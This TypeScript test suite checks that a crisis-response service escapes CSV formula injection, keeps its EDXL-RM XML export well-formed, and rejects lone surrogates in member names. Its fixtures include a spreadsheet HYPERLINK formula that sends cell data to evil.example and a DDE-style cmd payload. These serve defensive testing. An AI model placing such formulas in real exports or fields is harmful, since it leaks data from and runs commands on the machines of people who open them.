import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLValidator } from 'fast-xml-parser';
import { type CrisisActors, crisisActors, crisisCalls, isolatedCategory, preparedActivation, responder, type Responder } from './support/crisis.js';
import { parseCsv } from './support/csv.js';
import { bearer, eventually, TestApp } from './support/test-app.js';

/** Names a member controls, made to break the documents the service writes from them. */
const HOSTILE_NAMES = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  plus: '+33 1 23 45 67 89',
  tab: '\t=1+1',
  xml: 'Écho\uFFFE\uFFFF\u0001\u0008 Drones ]]> <!-- &',
};

/** Well-formed for a real XML parser, not only for a lenient one. */
function wellFormedForXmllint(xml: string): void {
  const file = join(mkdtempSync(join(tmpdir(), 'renfort-xml-')), 'thread.xml');
  writeFileSync(file, xml);
  execFileSync('xmllint', ['--noout', file], { stdio: 'pipe' });
}

describe('Documents written from member-controlled names', () => {
  let t: TestApp;
  let actors: CrisisActors;
  let auditor: string;
  let activationId: string;
  const members: Record<string, Responder> = {};

  beforeAll(async () => {
    t = await TestApp.start();
    actors = await crisisActors(t);
    auditor = (await t.signedInUser('AUDITOR')).token;
    const category = await isolatedCategory(t);
    const admin = await t.adminToken();
    for (const [key, name] of Object.entries(HOSTILE_NAMES)) {
      members[key] = await responder(t, actors.directorate, null, { category });
      await t.http.patch(`/api/v1/members/${members[key].member.id}`).set(bearer(admin)).send({ legalName: name }).expect(200);
      await t.http.patch(`/api/v1/assets/${members[key].assetIds[0]}`).set(bearer(members[key].user.token)).send({ name, version: 1 }).expect(200);
    }
    ({ activationId } = await preparedActivation(t, actors, [{ category, quantity: 2 }]));
    const calls = crisisCalls(t, actors);
    await calls.authorize(activationId).expect(200);
    await eventually(async () => (await t.db.query(`SELECT count(*)::int AS n FROM mobilization_request WHERE activation_id = $1 AND status = 'NOTIFIED'`, [activationId]))[0].n === 5);
    for (const key of ['formula', 'xml']) {
      const [request] = await calls.requestsOf(members[key].user.token, activationId);
      await calls.respond(members[key].user.token, request.id, 'acknowledge').expect(200);
      await calls.respond(members[key].user.token, request.id, 'accept').expect(200);
    }
  });
  afterAll(async () => {
    await t.close();
  });

  it('writes report CSV in which no member-controlled cell is a formula', async () => {
    const response = await t.http.get(`/api/v1/activations/${activationId}/report`).query({ format: 'csv' }).set(bearer(auditor)).expect(200);
    const [, ...rows] = parseCsv(response.text);
    const stored: { legal_name: string }[] = await t.db.query(`SELECT legal_name FROM member WHERE id = ANY($1)`, [Object.values(members).map((m) => m.member.id)]);
    const expected = stored.map(({ legal_name: name }) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name));
    expect(rows.map((row) => row[1]).sort()).toEqual(expected.sort());
    expect(expected.filter((name) => name.startsWith("'"))).toHaveLength(4);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports EDXL-RM that is well-formed whatever the names hold', async () => {
    const response = await t.http.get(`/api/v1/activations/${activationId}/edxl-rm`).set(bearer(auditor)).expect(200);
    expect(XMLValidator.validate(response.text)).toBe(true);
    expect(response.text).not.toMatch(/[\uFFFE\uFFFF\u0001\u0008]/);
    expect(response.text).toContain('Écho\uFFFD\uFFFD\uFFFD\uFFFD Drones ]]&gt; &lt;!-- &amp;');
    wellFormedForXmllint(response.text);
  });

  it('refuses a lone surrogate in a name with a 400 naming the field, writing nothing', async () => {
    const member = members.plus.member.id;
    const before = await t.db.query(`SELECT legal_name, version FROM member WHERE id = $1`, [member]);
    const refused = await t.http
      .patch(`/api/v1/members/${member}`)
      .set(bearer(await t.adminToken()))
      .set('content-type', 'application/json')
      .send('{"legalName": "Alpha \\ud800 Drones"}')
      .expect(400);
    expect(refused.body).toMatchObject({ statusCode: 400, code: 'REQUEST.ILL_FORMED_UNICODE', details: [{ field: 'legalName' }] });
    expect(await t.db.query(`SELECT legal_name, version FROM member WHERE id = $1`, [member])).toEqual(before);
  });
});
